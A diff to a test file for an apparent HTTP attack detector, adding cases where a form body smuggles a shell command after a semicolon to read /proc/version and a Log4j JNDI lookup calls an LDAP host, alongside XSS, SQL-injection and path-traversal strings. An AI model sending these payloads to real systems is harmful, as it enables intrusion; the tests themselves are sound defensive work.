@@ -42,6 +42,15 @@ describe('a request that attacks', () => {
     expect(told(get('/', header))).toEqual([expect.stringContaining(what)]);
   });
 
+  it('is one in the form that it sends, and a lookup wherever it stands', () => {
+    const post = (type: string, body: string): string =>
+      `POST /exec HTTP/1.1\r\nHost: hmi\r\nContent-Type: ${type}\r\n\r\n${body}`;
+    const form = 'application/x-www-form-urlencoded';
+    expect(told(post(form, 'ip=127.0.0.1%3Bcat+/proc/version'))).toEqual([expect.stringContaining('a command for a shell')]); // prettier-ignore
+    expect(told(post(form, 'ip=127.0.0.1&submit=ping'))).toEqual([]);
+    expect(told(post('text/plain', 'name=${jndi:ldap://10.0.0.9/a}'))).toEqual([expect.stringContaining('Log4j')]); // prettier-ignore
+  });
+
   it('is one alert however often it comes', () => {
     expect(told(get('/?q=<script>1'), get('/?q=<script>2'), get('/?q=<script>3'))).toHaveLength(1);
   });
@@ -64,7 +73,7 @@ describe('a request that does not', () => {
     expect(told(get(target))).toEqual([]);
   });
 
-  it('may carry anything in its body', () => {
+  it('may carry anything in its body, which is no form', () => {
     expect(told(`POST /wiki HTTP/1.1\r\nHost: hmi\r\n\r\ntext=<script>+union+select+../../etc/passwd`)).toEqual([]); // prettier-ignore
   });
 });
